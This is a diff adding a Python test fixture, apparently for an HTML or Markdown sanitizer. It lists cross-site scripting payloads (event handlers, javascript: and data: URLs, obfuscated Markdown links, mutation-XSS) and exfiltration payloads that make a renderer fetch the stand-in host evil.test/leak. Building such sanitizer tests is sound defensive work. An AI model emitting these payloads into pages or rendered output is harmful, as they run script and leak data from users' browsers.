@@ -1,0 +1,68 @@
+"""Texts that would run a script or call home if any of them ever became markup."""
+
+CALL = "window.__ran=1"
+HOME = "//evil.test/leak"
+
+SCRIPTS = (
+    f"<script>{CALL}</script>",
+    f"<img src=x onerror={CALL}>",
+    f"<svg onload={CALL}>",
+    f"<svg><script>{CALL}</script></svg>",
+    f"<math><mi//xlink:href='javascript:{CALL}'>",
+    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
+    "<iframe src=javascript:parent.__ran=1></iframe>",
+    f"<object data=javascript:{CALL}>",
+    f"<embed src=javascript:{CALL}>",
+    f"<details open ontoggle={CALL}>x</details>",
+    f"<input autofocus onfocus={CALL}>",
+    f"<video><source onerror={CALL}></video>",
+    f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart={CALL}>x",
+    f"<a href=javascript:{CALL}>click</a>",
+    f"<form action=javascript:{CALL}><button>go</button></form>",
+    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
+    f"<template><img src=x onerror={CALL}></template>",
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CALL}&gt;'>",
+    "<p id=__ran name=__ran>clobber</p>",
+    f"[click](javascript:{CALL})",
+    f"[click](JaVaScRiPt:{CALL})",
+    f"[click](java\tscript:{CALL})",
+    f"[click](&#106;avascript:{CALL})",
+    f"[click](data:text/html,<script>{CALL}</script>)",
+    f"[click](vbscript:{CALL})",
+    f'[click](https://example.com "x" onmouseover={CALL})',
+    f'![x](x" onerror="{CALL})',
+    f"<https://example.com/' onclick='{CALL}>",
+    f'```"><img src=x onerror={CALL}>\ncode\n```',
+    f"```html\n<img src=x onerror={CALL}>\n```",
+    f"`<img src=x onerror={CALL}>`",
+    f"| a |\n| --- |\n| <img src=x onerror={CALL}> |",
+    f"&lt;img src=x onerror={CALL}&gt;",
+    f"<!--><img src=x onerror={CALL}>-->",
+    f"<![CDATA[<img src=x onerror={CALL}>]]>",
+    f"<?xml <img src=x onerror={CALL}> ?>",
+    f"# <img src=x onerror={CALL}>",
+    f"- <img src=x onerror={CALL}>",
+    f"> <img src=x onerror={CALL}>",
+    f"\\<img src=x onerror={CALL}>",
+)
+
+LEAKS = (
+    f"![x](http:{HOME}?a)",
+    f"![x]({HOME}?b)",
+    f"![x][ref]\n\n[ref]: http:{HOME}?c",
+    f"<img src=http:{HOME}?d srcset=http:{HOME}?e>",
+    f"<link rel=prefetch href=http:{HOME}?f><link rel=dns-prefetch href={HOME}>",
+    f"<style>body{{background:url(http:{HOME}?g)}}</style>",
+    f"<p style='background:url(http:{HOME}?h)'>x</p>",
+    f"<meta http-equiv=refresh content='0;url=http:{HOME}?i'>",
+    f"<base href=http:{HOME}>",
+    f"<audio autoplay src=http:{HOME}?j></audio><video poster=http:{HOME}?k></video>",
+    f"<iframe src=http:{HOME}?l></iframe><object data=http:{HOME}?m></object>",
+    f"<svg><image href=http:{HOME}?n /><use href=http:{HOME}?o#x /></svg>",
+    f"<table background=http:{HOME}?p><tr><td>x</table>",
+    f"<input type=image src=http:{HOME}?q>",
+    f"<a ping=http:{HOME}?r href=http:{HOME}?s>x</a>",
+    f"[link](http:{HOME}?t) and http:{HOME}?u",
+)
+
+HOSTILE = (*SCRIPTS, *LEAKS)
